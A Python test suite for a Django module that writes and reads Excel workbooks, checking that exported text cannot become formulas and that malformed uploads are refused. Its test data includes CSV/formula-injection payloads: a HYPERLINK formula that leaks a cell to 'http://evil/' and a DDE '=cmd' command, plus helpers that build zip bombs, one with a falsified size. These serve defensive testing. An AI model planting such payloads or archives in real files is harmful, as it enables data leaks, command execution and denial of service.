"""Workbooks out, on both engines: what a cell holds whatever people have written; and in: what a sheet says as text."""

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from attachments import workbook
from attachments.workbook import DATE, NUMBER, Column, read_rows, write

LEADS = ("=1+1", '=HYPERLINK("http://evil/?"&A2)', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1")
IDENTITIES = ("420106199001010014", "00717", "0", "1e5", "TRUE", "42010619900101001X", "2026-01-01")
COLUMNS = (Column("姓名", 20), Column("日期", 12, DATE), Column("天数", 8, NUMBER))


@pytest.fixture(params=["fast", "plain"])
def engine(request, monkeypatch) -> str:
    if request.param == "plain":
        monkeypatch.setattr(workbook, "rust", None)
    return request.param


def cells(path: Path, sheet: int = 0) -> list[tuple]:
    """(data type, value) of each cell below the head."""
    page = load_workbook(path).worksheets[sheet]
    return [tuple((cell.data_type, cell.value) for cell in row) for row in page.iter_rows(min_row=2)]


def written(folder: Path, *texts: object) -> list[str]:
    """What a reader that knows Excel's escapes finds of texts, one a row."""
    path = folder / "x.xlsx"
    write(path, "表", (Column("甲"), Column("乙")), ((text, "末") for text in texts), count=len(texts))
    return [row[0] for row in read_rows(path)[1:]]


def test_text_stays_text(engine, tmp_path):
    """X01, X05: no formula, no number, quoted so that it stays so where the cell is edited or saved as CSV."""
    path, texts = tmp_path / "x.xlsx", (*LEADS, *IDENTITIES)
    write(path, "表", COLUMNS, [(text, text, text) for text in texts], count=len(texts))
    assert cells(path) == [(("s", text.replace("\t", " ").replace("\r", "")),) * 3 for text in texts]
    assert all(cell.quotePrefix for cell in load_workbook(path).worksheets[0]["A"])


def test_no_character_breaks_the_file(engine, tmp_path):
    """X02."""
    expected = dict.fromkeys([*range(32), 0x7F, 0xFFFE, 0xFFFF, 0xD800, 0xDFFF], "甲乙") | {9: "甲 乙", 10: "甲\n乙"}
    assert written(tmp_path, *(f"甲{chr(number)}乙" for number in expected)) == list(expected.values())


def test_texts_come_back_as_they_were(engine, tmp_path):
    texts = ["_x0041_", "_x000D_", "甲_x005F_乙", "<b>&amp;</b>", "😀", "甲\n乙", "", "7"]
    assert written(tmp_path, *texts, "甲\r\n乙", None, 7) == [*texts, "甲\n乙", "", "7"]


def test_long_texts_are_cut_with_a_note(engine, tmp_path):
    texts = ["字" * 32_767, "字" * 40_000, "😀" * 17_000]
    for text, found, cut in zip(texts, written(tmp_path, *texts), (False, True, True), strict=True):
        note = f"……（原文 {len(text):,} 字，超出单元格上限，以下省略）"
        assert found.endswith(note) is cut
        assert text.startswith(found.removesuffix(note))
        assert 32_765 <= len(found.encode("utf-16-le")) / 2 <= 32_767


def test_dates_are_dates_and_numbers_numbers(engine, tmp_path):
    path, late = tmp_path / "x.xlsx", datetime(2026, 1, 31, 17, tzinfo=UTC)  # the next day in Shanghai
    rows = [("甲", date(2026, 1, 31), 12), ("乙", late, 2.5), (None, None, None), ("丙", date(1899, 1, 1), 10**15)]
    write(path, "表", COLUMNS, rows, count=4)
    assert [[value for _, value in row] for row in cells(path)] == [
        ["甲", datetime(2026, 1, 31), 12],  # noqa: DTZ001  Excel knows no zones
        ["乙", datetime(2026, 2, 1), 2.5],  # noqa: DTZ001
        [None, None, None],
        ["丙", "1899-01-01", "1000000000000000"],
    ]
    assert [cell.number_format for cell in load_workbook(path).worksheets[0][2]] == ["General", "yyyy-mm-dd", "General"]


def test_head_is_bold_tinted_frozen_filtered_and_wide(engine, tmp_path):
    path = tmp_path / "x.xlsx"
    write(path, "名单", COLUMNS, [("甲", None, 1), ("乙", None, 2)], count=2)
    page = load_workbook(path).worksheets[0]
    assert (page.title, page.freeze_panes, page.auto_filter.ref) == ("名单", "A2", "A1:C3")
    assert [cell.value for cell in page[1]] == ["姓名", "日期", "天数"]
    assert all(cell.font.bold and cell.fill.fgColor.rgb.endswith("E6F2EE") for cell in page[1])
    assert [round(page.column_dimensions[name].width) for name in "ABC"] in ([20, 12, 8], [21, 13, 9])


@pytest.mark.parametrize(("rows", "sheets"), [(0, [0]), (1, [1]), (3, [3]), (4, [3, 1]), (7, [3, 3, 1])])
def test_many_rows_go_on_to_further_sheets(engine, tmp_path, monkeypatch, rows, sheets):
    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)
    path = tmp_path / "x.xlsx"
    assert write(path, "表", (Column("号"),), ((number,) for number in range(rows)), count=rows) == rows
    *pages, about = load_workbook(path).worksheets
    assert [page.title for page in pages] == (["表"], ["表（1）", "表（2）"], ["表（1）", "表（2）", "表（3）"])[
        len(sheets) - 1
    ]
    found = [[cell.value for (cell,) in page.iter_rows(min_row=2) if cell.value is not None] for page in pages]
    assert [len(values) for values in found] == sheets
    assert [value for values in found for value in values] == [str(number) for number in range(rows)]
    assert all(page["A1"].value == "号" and page.freeze_panes == "A2" for page in pages)
    assert about["B3"].value == str(rows)


def test_more_rows_than_announced_are_not_left_out_in_silence(engine, tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)
    with pytest.raises(ValueError, match="more rows"):
        write(tmp_path / "x.xlsx", "表", (Column("号"),), [(1,)] * 4, count=3)


def test_two_columns_of_one_name_are_refused(tmp_path):
    with pytest.raises(ValueError, match="two columns"):
        write(tmp_path / "x.xlsx", "表", (Column("号"), Column("号")), [], count=0)


def test_the_last_sheet_says_what_it_is(engine, tmp_path):
    path = tmp_path / "x.xlsx"
    about = [("导出人", "=办理员"), ("查询条件", "批次：2026年度")]
    write(path, "表", COLUMNS, [("甲", None, 1)], count=1, about=about)
    page = load_workbook(path)["说明"]
    rows = {row[0].value: row[1].value for row in page.iter_rows()}
    assert rows.pop("导出时间").startswith("20")
    assert rows == {"项目": "内容", "行数": "1", "导出人": "=办理员", "查询条件": "批次：2026年度"}


# In


def book(*rows: tuple, **more) -> bytes:
    made, out = Workbook(), io.BytesIO()
    for row in rows:
        made.active.append(row)
    for place, value in more.items():
        made.active[place] = value
    made.save(out)
    return out.getvalue()


def read(tmp_path: Path, data: bytes, **options) -> list[list[str]]:
    path = tmp_path / "in.xlsx"
    path.write_bytes(data)
    return read_rows(path, **options)


def test_cells_are_read_as_text(tmp_path):
    head = ("姓名", "号码", "日期", "天数", "是否")
    made = book(head, (" 甲 ", 13800000000, date(2026, 1, 31), 2.5, True), ("乙", "007"))
    assert read(tmp_path, made) == [
        list(head),
        ["甲", "13800000000", "2026-01-31", "2.5", "是"],
        ["乙", "007", "", "", ""],
    ]


def test_rows_keep_their_numbers(tmp_path):
    assert read(tmp_path, book(A2="甲", B4="乙", B9=" ")) == [["", ""], ["甲", ""], ["", ""], ["", "乙"]]


def test_the_first_visible_sheet_is_read(tmp_path):
    made, out = Workbook(), io.BytesIO()
    made.active.append(("暗",))
    made.active.sheet_state = "hidden"
    made.create_sheet("明").append(("明",))
    made.save(out)
    assert read(tmp_path, out.getvalue()) == [["明"]]


def bomb() -> bytes:
    """An honest bomb: its directory says how large it is."""
    out = io.BytesIO(book(("甲",)))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target, target.open("xl/bomb.xml", "w") as part:
        for _ in range(65):
            part.write(bytes(1024**2))
    return out.getvalue()


def liar() -> bytes:
    """A bomb whose directory lies: a sheet of 20 MB that says it has ten bytes."""
    source, out = zipfile.ZipFile(io.BytesIO(book(("甲",)))), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, source.read(name))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b"<worksheet><sheetData><row><c t='inlineStr'><is><t>")
            for _ in range(20):
                part.write(b"a" * 1024**2)
            part.write(b"</t></is></c></row></sheetData></worksheet>")
        target.getinfo("xl/worksheets/sheet1.xml").file_size = 10
    return out.getvalue()


def word() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("[Content_Types].xml", "")
        target.writestr("word/document.xml", "")
    return out.getvalue()


BAD = {
    "nothing": (lambda: b"", "not_xlsx"),
    "csv": (lambda: "姓名,号码\n".encode(), "not_xlsx"),
    "pdf": (lambda: b"%PDF-1.7", "not_xlsx"),
    "word": (word, "not_xlsx"),
    "xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "encrypted"),
    "large": (lambda: bytes(5 * 1024**2 + 1), "too_large"),
    "half": (lambda: book(("甲",))[:-200], "damaged"),
    "bomb": (bomb, "too_complex"),
    "liar": (liar, "damaged"),
    "far corner": (lambda: book(A1="甲", XFD1048576="乙"), "too_complex"),
    "wide": (lambda: book(A1="甲", GZ2="乙"), "too_complex"),
    "long": (lambda: book(*[("甲",)] * 5), "too_many_rows"),
    "blank": (book, "empty"),
    "spaces": (lambda: book((" ",)), "empty"),
    "rounded": (lambda: book(("号码",), (420106199001010014,)), "long_number"),
}


@pytest.mark.parametrize("name", BAD)
def test_what_is_no_plain_sheet_is_refused_with_a_sentence(tmp_path, name):
    make, code = BAD[name]
    with pytest.raises(ValidationError) as refusal:
        read(tmp_path, make(), max_rows=3)
    assert refusal.value.code == code
    assert code != "long_number" or refusal.value.message.startswith("第 2 行第 1 列的数字超过 15 位")


def test_as_many_rows_as_allowed_below_the_head(tmp_path):
    assert len(read(tmp_path, book(*[("甲",)] * 4), max_rows=3)) == 4
